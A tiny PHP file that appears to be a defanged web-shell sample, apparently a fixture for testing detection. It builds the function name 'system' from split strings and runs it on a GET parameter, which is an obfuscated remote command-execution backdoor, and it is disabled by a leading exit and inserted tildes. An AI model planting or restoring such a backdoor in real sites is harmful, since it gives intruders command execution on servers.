<?php exit; ?>
<?php $GLO~BALS['m1'] = array('sys', 'tem', 'MARKER'); $f = $GLO~BALS['m1'][0] . $GLO~BALS['m1'][1]; $f($_G~ET[$GLO~BALS['m1'][2]]);
